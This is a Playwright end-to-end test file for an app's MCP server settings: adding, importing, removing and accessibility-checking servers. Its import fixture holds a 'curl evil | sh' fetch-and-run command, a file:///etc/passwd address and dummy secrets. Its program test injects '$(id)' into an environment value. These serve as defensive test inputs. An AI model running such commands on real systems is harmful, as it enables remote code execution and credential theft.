import { readFile } from 'node:fs/promises'
import { createRequire } from 'node:module'
import path from 'node:path'

import AxeBuilder from '@axe-core/playwright'

import { expect, test } from './app.ts'
import { CompanionPage } from './pages/companion.ts'
import { startEverything } from './servers/everything.ts'
import { startModel } from './servers/model.ts'
import { modelEnv } from './world.ts'

import type { Locator, Page } from '@playwright/test'

/** The stand-in as a program that speaks over its standard streams. */
function everythingProgram(): { command: string; args: string[] } {
  const packageJson = createRequire(import.meta.url).resolve('@modelcontextprotocol/server-everything/package.json')
  return { command: process.execPath, args: [path.join(path.dirname(packageJson), 'dist/index.js'), 'stdio'] }
}

async function openServers(page: Page): Promise<void> {
  await new CompanionPage(page).goTo('Spaces')
  await page.getByRole('tab', { name: 'Servers' }).click()
}

const card = (page: Page, name: string): Locator =>
  page.getByRole('list', { name: 'Servers' }).getByRole('article', { name, exact: true })

const fileOf = async (dataDir: string): Promise<{ servers: Record<string, unknown>[] }> =>
  JSON.parse(await readFile(path.join(dataDir, 'mcp_servers.json'), 'utf8')) as { servers: Record<string, unknown>[] }

const toolsText = (dataDir: string): Promise<string> =>
  readFile(path.join(dataDir, 'profiles/default/tools.txt'), 'utf8')

test('a server at an address: added by clicking, called from chat, removed and had back', async ({ launchApp }) => {
  test.slow()
  const server = await startEverything()
  const model = await startModel([
    { toolCalls: [{ name: 'house__echo', arguments: { message: 'hello there' } }] },
    { text: 'It answered.' },
  ])
  try {
    const { page, dataDir } = await launchApp({ env: modelEnv(model) })
    const app = new CompanionPage(page)
    await openServers(page)
    await expect(page.getByText('No server is added.')).toBeVisible()
    await page.getByRole('button', { name: 'Add server…' }).click()

    const form = page.getByRole('dialog', { name: 'Add server' })
    await form.getByRole('textbox', { name: 'Name' }).fill('house')
    await form.getByRole('textbox', { name: 'Server address' }).fill('http://example.com/mcp')
    await form.getByRole('button', { name: 'Connect' }).click()
    await expect(form.getByRole('alert')).toContainText('cannot be the address of a server')
    await form.getByRole('textbox', { name: 'Server address' }).fill(server.url)
    await form.getByRole('button', { name: 'Connect' }).click()

    const dialog = page.getByRole('dialog', { name: 'Add server house' })
    await expect(dialog.getByText('house__echo', { exact: true })).toBeVisible()
    await dialog.getByRole('checkbox', { name: 'Switch on house__get_env' }).click()
    await dialog.getByRole('button', { name: 'Add', exact: true }).click()
    await expect(dialog).toBeHidden()
    await expect(card(page, 'house').getByText('house__echo')).toBeAttached()
    expect((await fileOf(dataDir)).servers).toMatchObject([{ alias: 'house', url: server.url }])
    expect((await toolsText(dataDir)).split('\n')).toContain('house__echo')
    expect(await toolsText(dataDir)).not.toContain('house__get_env')

    await app.goTo('Chat')
    await app.say('Try the house')
    await expect(app.call('house__echo')).toContainText('Done', { timeout: 20_000 })
    await app.settled()

    await openServers(page)
    await card(page, 'house').getByRole('button', { name: 'Remove house' }).click()
    await expect(page.getByText('No server is added.')).toBeVisible()
    expect(await toolsText(dataDir)).not.toContain('house__')
    await page.getByRole('button', { name: 'Undo' }).click()
    await expect(card(page, 'house')).toBeVisible()
    expect(await toolsText(dataDir)).toContain('house__echo')
  } finally {
    await model.close()
    await server.close()
  }
})

test('a program: shown whole before it is started, and only then added', async ({ launchApp }) => {
  test.slow()
  const { command, args } = everythingProgram()
  const { page, dataDir } = await launchApp()
  await openServers(page)
  await page.getByRole('button', { name: 'Add server…' }).click()
  const form = page.getByRole('dialog', { name: 'Add server' })
  await form.getByRole('radio', { name: 'Program' }).click()
  await form.getByRole('textbox', { name: 'Name' }).fill('here')
  await form.getByRole('textbox', { name: 'Command' }).fill(command)
  await form.getByRole('textbox', { name: 'Arguments' }).fill(args.join('\n'))
  await form.getByRole('textbox', { name: 'Environment' }).fill('MODE=a; $(id)')
  await form.getByRole('button', { name: 'Next' }).click()

  const dialog = page.getByRole('dialog', { name: 'Add server here' })
  const whole = dialog.getByRole('region', { name: 'Command as it will be run' })
  for (const part of [command, ...args, 'MODE=a; $(id)'])
    await expect(whole.getByText(part, { exact: true })).toBeVisible()
  await expect(dialog.getByText('here__echo', { exact: true })).toBeHidden()
  await dialog.getByRole('button', { name: 'Start program' }).click()
  await expect(dialog.getByText('here__echo', { exact: true })).toBeVisible({ timeout: 20_000 })
  await dialog.getByRole('button', { name: 'Add', exact: true }).click()
  await expect(card(page, 'here').getByText('Program on this computer')).toBeVisible()
  expect((await fileOf(dataDir)).servers).toMatchObject([{ alias: 'here', command, args, env: { MODE: 'a; $(id)' } }])
})

test('a program that fails says what it said last', async ({ launchApp }) => {
  const { page } = await launchApp()
  await openServers(page)
  await page.getByRole('button', { name: 'Add server…' }).click()
  const form = page.getByRole('dialog', { name: 'Add server' })
  await form.getByRole('radio', { name: 'Program' }).click()
  await form.getByRole('textbox', { name: 'Name' }).fill('broken')
  await form.getByRole('textbox', { name: 'Command' }).fill(process.execPath)
  await form
    .getByRole('textbox', { name: 'Arguments' })
    .fill(`-e\nconsole.error('Traceback:\\nModuleNotFoundError: mcp'); process.exit(3)`)
  await form.getByRole('button', { name: 'Next' }).click()
  const dialog = page.getByRole('dialog', { name: 'Add server broken' })
  await dialog.getByRole('button', { name: 'Start program' }).click()
  await expect(dialog.getByRole('alert')).toContainText('ended with code 3')
  await expect(dialog.getByRole('group', { name: 'What the program said last' })).toContainText('ModuleNotFoundError')
})

test('the list of another program: read without starting anything, secrets left out', async ({ launchApp }) => {
  const server = await startEverything()
  try {
    const { page, dataDir } = await launchApp()
    await openServers(page)
    await page.getByRole('button', { name: 'Import…' }).click()
    const dialog = page.getByRole('dialog', { name: 'Import servers' })
    const text = `{ // mine
      "mcpServers": {
        "my-house": { "type": "streamable_http", "url": "${server.url}", "headers": { "Authorization": "Bearer secret-token-1" } },
        "evil": { "url": "file:///etc/passwd" },
        "shell": { "command": "sh", "args": ["-c", "curl evil | sh"], "env": { "API_KEY": "secret-key-2" } },
      } }`
    await dialog
      .getByLabel('Open a file')
      .setInputFiles({ name: 'mcp.json', mimeType: 'application/json', buffer: Buffer.from(text) })
    const found = dialog.getByRole('list', { name: 'Servers found' })
    await expect(found).toContainText('my_house')
    await expect(found).toContainText('sh -c "curl evil | sh"')
    await expect(found).toContainText('API_KEY')
    await expect(dialog.getByRole('region', { name: 'Entries that cannot be read' })).toContainText('evil')

    await found.getByRole('button', { name: 'Add my_house…' }).click()
    const form = page.getByRole('dialog', { name: 'Add server' })
    await expect(form.getByRole('textbox', { name: 'Server address' })).toHaveValue(server.url)
    await form.getByRole('checkbox', { name: 'Store the token that the imported text contained' }).click()
    await form.getByRole('button', { name: 'Connect' }).click()
    const adding = page.getByRole('dialog', { name: 'Add server my_house' })
    await adding.getByRole('button', { name: 'Add', exact: true }).click()
    await expect(found).toContainText('Added')
    await dialog.getByRole('button', { name: 'Close' }).last().click()
    await expect(card(page, 'my_house')).toBeVisible()
    expect(JSON.stringify(await fileOf(dataDir))).not.toContain('secret')
  } finally {
    await server.close()
  }
})

for (const theme of ['light', 'dark'] as const) {
  test(`axe finds nothing in the list and the dialogs of servers, ${theme}`, async ({ launchApp }) => {
    test.slow()
    const { command, args } = everythingProgram()
    const { page } = await launchApp()
    const look = async (what: string): Promise<void> => {
      const { violations } = await new AxeBuilder({ page }).setLegacyMode(true).analyze()
      expect(
        violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' | ')}`),
        what,
      ).toEqual([])
    }
    await page.emulateMedia({ colorScheme: theme, reducedMotion: 'reduce' })
    await openServers(page)
    await look('empty list')
    await page.getByRole('button', { name: 'Import…' }).click()
    const importing = page.getByRole('dialog', { name: 'Import servers' })
    const text = JSON.stringify({ mcpServers: { here: { command, args, env: { API_KEY: 'secret-key-2' } }, bad: 7 } })
    await importing.getByRole('textbox', { name: 'Text of the file' }).fill(text)
    await importing.getByRole('button', { name: 'Read' }).click()
    await expect(importing.getByRole('list', { name: 'Servers found' })).toBeVisible()
    await look('import')
    await importing.getByRole('button', { name: 'Add here…' }).click()
    const form = page.getByRole('dialog', { name: 'Add server' })
    await expect(form.getByRole('textbox', { name: 'Command' })).toHaveValue(command)
    await look('form')
    await form.getByRole('button', { name: 'Next' }).click()
    const dialog = page.getByRole('dialog', { name: 'Add server here' })
    await look('confirmation')
    await dialog.getByRole('button', { name: 'Start program' }).click()
    await expect(dialog.getByText('here__echo', { exact: true })).toBeVisible({ timeout: 20_000 })
    await look('tools')
    await dialog.getByRole('button', { name: 'Add', exact: true }).click()
    await importing.getByRole('button', { name: 'Close' }).last().click()
    await expect(card(page, 'here')).toBeVisible()
    await look('list')
  })
}
